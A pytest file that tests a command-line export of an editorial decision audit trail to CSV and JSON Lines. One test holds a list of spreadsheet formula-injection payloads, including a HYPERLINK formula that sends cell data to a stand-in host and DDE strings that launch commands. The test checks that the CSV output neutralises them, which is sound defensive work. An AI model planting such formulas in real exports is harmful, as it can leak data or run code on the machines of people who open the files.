"""`curator decisions export`: every decision from every front end, as CSV or JSON Lines."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from sqlalchemy import Engine

from curator.audit import FIELDS
from curator.cli import cli
from curator.config import get_settings
from curator.store.decisions import Actor, decide
from tests.support.factories import add_item

pytestmark = pytest.mark.storage
T0 = datetime(2024, 6, 3, 9, tzinfo=UTC)


@pytest.fixture
def export(engine: Engine, db_url: str, monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.setenv("CURATOR_DATABASE_URL", db_url)
    get_settings.cache_clear()

    def _export(*args: str) -> str:
        result = CliRunner().invoke(cli, ["decisions", "export", *args])
        assert result.exit_code == 0, result.output
        return result.output

    return _export


def history(engine: Engine) -> tuple[int, int]:
    a = add_item(engine, title="Prisons report")
    b = add_item(engine, title='Care, "quoted"\nand multi-line')
    alice = Actor("U1", "alice", "slack")
    decide(engine, a, "accept", alice, sector="criminal_justice", category="reports", now=T0)
    decide(engine, a, "edit", alice, edits={"summary": "New.", "key_findings": ["x", "y"]}, now=T0)
    decide(engine, b, "reject", Actor("maria", "maria", "cli"), now=T0)
    decide(engine, b, "undo", Actor("maria", "maria", "cli"), now=T0)
    return a, b


def test_jsonl(engine: Engine, export: Any) -> None:
    a, b = history(engine)
    rows = [json.loads(line) for line in export("--format", "jsonl").splitlines()]
    assert [(r["item_id"], r["action"], r["user_id"], r["via"]) for r in rows] == [
        (a, "accept", "U1", "slack"),
        (a, "edit", "U1", "slack"),
        (b, "reject", "maria", "cli"),
        (b, "undo", "maria", "cli"),
    ]
    first = rows[0]
    assert list(first) == list(FIELDS)
    assert (first["sector"], first["category"], first["edition"]) == (
        "criminal_justice",
        "reports",
        "2024-06",
    )
    assert first["user_name"] == "alice" and first["created_at"].startswith("2024-06-03T09:00")
    assert first["previous_state"]["status"] == "queued"
    assert rows[1]["edits"] == {"summary": "New.", "key_findings": ["x", "y"]}
    assert rows[3]["previous_state"]["status"] == "rejected"


def test_csv_to_a_file_round_trips(engine: Engine, export: Any, tmp_path: Path) -> None:
    history(engine)
    out = tmp_path / "audit.csv"
    export("--out", str(out))
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 4 and list(rows[0]) == list(FIELDS)
    assert rows[2]["item_title"] == 'Care, "quoted"\nand multi-line'
    assert json.loads(rows[1]["edits"])["key_findings"] == ["x", "y"]
    assert json.loads(rows[0]["previous_state"])["status"] == "queued"


def test_empty_export_has_a_header(export: Any) -> None:
    assert export().strip() == ",".join(FIELDS)
    assert export("--format", "jsonl") == ""


def test_unwritable_out_is_a_clear_error(engine: Engine, export: Any, tmp_path: Path) -> None:
    result = CliRunner().invoke(
        cli, ["decisions", "export", "--out", str(tmp_path / "missing" / "audit.csv")]
    )
    assert result.exit_code == 1
    assert "cannot write" in result.output and "folder exists" in result.output


#: Cell starts that a spreadsheet reads as a formula (OWASP's CSV injection list).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_would_run_as_formulas_are_neutralised_and_jsonl_stays_exact(
    engine: Engine, export: Any
) -> None:
    for i, text in enumerate(FORMULAS):
        item = add_item(engine, title=text, publisher=text, url=f"https://x.example/{i}")
        decide(
            engine, item, "accept", Actor("U1", text, "slack"), sector="criminal_justice", now=T0
        )
    rows = list(csv.DictReader(io.StringIO(export("--format", "csv"))))
    assert [r["item_title"] for r in rows] == ["'" + t for t in FORMULAS]
    assert [r["publisher"] for r in rows] == ["'" + t for t in FORMULAS]
    assert [r["user_name"] for r in rows] == ["'" + t for t in FORMULAS]
    assert rows[0]["decision_id"].isdigit() and rows[0]["action"] == "accept"
    assert json.loads(rows[0]["previous_state"])["status"] == "queued"  # JSON cells untouched
    exact = [json.loads(line) for line in export("--format", "jsonl").splitlines()]
    assert [r["item_title"] for r in exact] == FORMULAS
    assert [r["user_name"] for r in exact] == FORMULAS


def test_csv_leaves_ordinary_cells_alone(engine: Engine, export: Any) -> None:
    item = add_item(engine, title="Prisons: a 10-year plan = better?", publisher="HMPPS")
    decide(
        engine, item, "accept", Actor("U1", "o'brien", "slack"), sector="criminal_justice", now=T0
    )
    row = next(csv.DictReader(io.StringIO(export())))
    assert (row["item_title"], row["publisher"], row["user_name"]) == (
        "Prisons: a 10-year plan = better?",
        "HMPPS",
        "o'brien",
    )


# -- the exact bytes, pinned -------------------------------------------------------------------
# A small trail with what is easy to get wrong: text outside ASCII, a time with and one without
# microseconds, null fields, edits, a formula cell and a CR LF inside a title. The expected text
# was written by the export before it was made faster; it must not change by a byte.

T1 = datetime(2024, 6, 4, 17, 5, 30, 250, tzinfo=UTC)


def pinned_trail(engine: Engine) -> None:
    a = add_item(
        engine, title="Café résumé — “quoted”", publisher="Ofsted", url="https://x.example/a"
    )
    b = add_item(
        engine, title='=HYPERLINK("x")\r\nline', publisher="-HMPPS", url="https://x.example/b"
    )
    zoe, maria = Actor("U1", "Zoë", "slack"), Actor("maria", None, "cli")
    decide(engine, a, "accept", zoe, sector="criminal_justice", category="reports", now=T0)
    edits = {"summary": "Naïve ✓", "key_findings": ["x", "y"]}
    decide(engine, a, "edit", zoe, edits=edits, position=2, now=T1)
    decide(engine, b, "reject", maria, now=T1)
    decide(engine, b, "undo", maria, now=T1)


PINNED_JSONL = (
    '{"decision_id": 1, "item_id": 1, "item_title": "Café résumé — “quoted”", '
    '"publisher": "Ofsted", "url": "https://x.example/a", "action": "accept", '
    '"sector": "criminal_justice", "category": "reports", "edition": "2024-06", '
    '"edits": null, "user_id": "U1", "user_name": "Zoë", "via": "slack", '
    '"created_at": "2024-06-03T09:00:00+00:00", "previous_state": {"status": "queued", '
    '"sector": null, "category": null, "edition": null, "position": null, '
    '"edited_title": null, "edited_summary": null, "key_findings": null, '
    '"edited_lead_in": null, "decided_by": null, "decided_at": null, '
    '"edited_publisher": null}}\n'
    '{"decision_id": 2, "item_id": 1, "item_title": "Café résumé — “quoted”", '
    '"publisher": "Ofsted", "url": "https://x.example/a", "action": "edit", '
    '"sector": "criminal_justice", "category": "reports", "edition": "2024-06", '
    '"edits": {"summary": "Naïve ✓", "key_findings": ["x", "y"], "position": 2}, '
    '"user_id": "U1", "user_name": "Zoë", "via": "slack", '
    '"created_at": "2024-06-04T17:05:30.000250+00:00", '
    '"previous_state": {"status": "accepted", "sector": "criminal_justice", '
    '"category": "reports", "edition": "2024-06", "position": null, '
    '"edited_title": null, "edited_summary": null, "key_findings": null, '
    '"edited_lead_in": null, "decided_by": "Zoë", '
    '"decided_at": "2024-06-03T09:00:00+00:00", "edited_publisher": null}}\n'
    '{"decision_id": 3, "item_id": 2, "item_title": "=HYPERLINK(\\"x\\")\\r\\nline", '
    '"publisher": "-HMPPS", "url": "https://x.example/b", "action": "reject", '
    '"sector": null, "category": null, "edition": null, "edits": null, '
    '"user_id": "maria", "user_name": null, "via": "cli", '
    '"created_at": "2024-06-04T17:05:30.000250+00:00", '
    '"previous_state": {"status": "queued", "sector": null, "category": null, '
    '"edition": null, "position": null, "edited_title": null, "edited_summary": null, '
    '"key_findings": null, "edited_lead_in": null, "decided_by": null, '
    '"decided_at": null, "edited_publisher": null}}\n'
    '{"decision_id": 4, "item_id": 2, "item_title": "=HYPERLINK(\\"x\\")\\r\\nline", '
    '"publisher": "-HMPPS", "url": "https://x.example/b", "action": "undo", '
    '"sector": null, "category": null, "edition": null, "edits": null, '
    '"user_id": "maria", "user_name": null, "via": "cli", '
    '"created_at": "2024-06-04T17:05:30.000250+00:00", '
    '"previous_state": {"status": "rejected", "sector": null, "category": null, '
    '"edition": null, "position": null, "edited_title": null, "edited_summary": null, '
    '"key_findings": null, "edited_lead_in": null, "decided_by": "maria", '
    '"decided_at": "2024-06-04T17:05:30.000250+00:00", "edited_publisher": null}}\n'
)
PINNED_CSV = (
    "decision_id,item_id,item_title,publisher,url,action,sector,category,edition,edits,"
    "user_id,user_name,via,created_at,previous_state\r\n"
    "1,1,Café résumé — “quoted”,Ofsted,https://x.example/a,accept,criminal_justice,reports,"
    '2024-06,,U1,Zoë,slack,2024-06-03T09:00:00+00:00,"{""status"": ""queued"", '
    '""sector"": null, ""category"": null, ""edition"": null, ""position"": null, '
    '""edited_title"": null, ""edited_summary"": null, ""key_findings"": null, '
    '""edited_lead_in"": null, ""decided_by"": null, ""decided_at"": null, '
    '""edited_publisher"": null}"\r\n'
    "2,1,Café résumé — “quoted”,Ofsted,https://x.example/a,edit,criminal_justice,reports,"
    '2024-06,"{""summary"": ""Naïve ✓"", ""key_findings"": [""x"", ""y""], '
    '""position"": 2}",U1,Zoë,slack,2024-06-04T17:05:30.000250+00:00,'
    '"{""status"": ""accepted"", ""sector"": ""criminal_justice"", '
    '""category"": ""reports"", ""edition"": ""2024-06"", ""position"": null, '
    '""edited_title"": null, ""edited_summary"": null, ""key_findings"": null, '
    '""edited_lead_in"": null, ""decided_by"": ""Zoë"", '
    '""decided_at"": ""2024-06-03T09:00:00+00:00"", ""edited_publisher"": null}"\r\n'
    '3,2,"\'=HYPERLINK(""x"")\r\n'
    "line\",'-HMPPS,https://x.example/b,reject,,,,,maria,,cli,"
    '2024-06-04T17:05:30.000250+00:00,"{""status"": ""queued"", ""sector"": null, '
    '""category"": null, ""edition"": null, ""position"": null, '
    '""edited_title"": null, ""edited_summary"": null, ""key_findings"": null, '
    '""edited_lead_in"": null, ""decided_by"": null, ""decided_at"": null, '
    '""edited_publisher"": null}"\r\n'
    '4,2,"\'=HYPERLINK(""x"")\r\n'
    "line\",'-HMPPS,https://x.example/b,undo,,,,,maria,,cli,"
    '2024-06-04T17:05:30.000250+00:00,"{""status"": ""rejected"", ""sector"": null, '
    '""category"": null, ""edition"": null, ""position"": null, '
    '""edited_title"": null, ""edited_summary"": null, ""key_findings"": null, '
    '""edited_lead_in"": null, ""decided_by"": ""maria"", '
    '""decided_at"": ""2024-06-04T17:05:30.000250+00:00"", ""edited_publisher"": null}"\r\n'
)


def test_the_export_writes_exactly_the_pinned_bytes(
    engine: Engine, export: Any, tmp_path: Path
) -> None:
    pinned_trail(engine)
    out = tmp_path / "audit"
    # To a file: click's test runner turns CR LF into LF in what it captures.
    export("--format", "jsonl", "--out", str(out))
    assert out.read_bytes() == PINNED_JSONL.encode("utf-8")
    export("--format", "csv", "--out", str(out))
    assert out.read_bytes() == PINNED_CSV.encode("utf-8")


def test_since_exports_the_decisions_made_from_the_start_of_that_day(
    engine: Engine, export: Any
) -> None:
    a = add_item(engine, title="Prisons report")
    b = add_item(engine, title="Care report")
    c = add_item(engine, title="Youth report")
    editor = Actor("U1", "alice", "slack")
    decide(engine, a, "reject", editor, now=datetime(2024, 6, 3, 22, 59, tzinfo=UTC))
    # 23:00 UTC on 3 June is midnight on 4 June in London (summer time)
    decide(engine, b, "reject", editor, now=datetime(2024, 6, 3, 23, 0, tzinfo=UTC))
    decide(engine, c, "reject", editor, now=datetime(2024, 6, 5, 8, tzinfo=UTC))
    jsonl = export("--format", "jsonl", "--since", "2024-06-04")
    since = [json.loads(line) for line in jsonl.splitlines()]
    assert [(r["item_id"], r["created_at"]) for r in since] == [
        (b, "2024-06-03T23:00:00+00:00"),
        (c, "2024-06-05T08:00:00+00:00"),
    ]
    rows = list(csv.DictReader(io.StringIO(export("--since", "2024-06-05"))))
    assert [int(r["item_id"]) for r in rows] == [c]
    assert export("--since", "2024-06-06").strip() == ",".join(FIELDS)  # the header alone
    assert len(export("--format", "jsonl").splitlines()) == 3  # without --since: every one


def test_a_bad_since_date_is_a_clear_error(engine: Engine, export: Any) -> None:
    result = CliRunner().invoke(cli, ["decisions", "export", "--since", "last week"])
    assert result.exit_code == 2
    assert "'last week' is not a date; use YYYY-MM-DD" in result.output
    assert "--since" in result.output
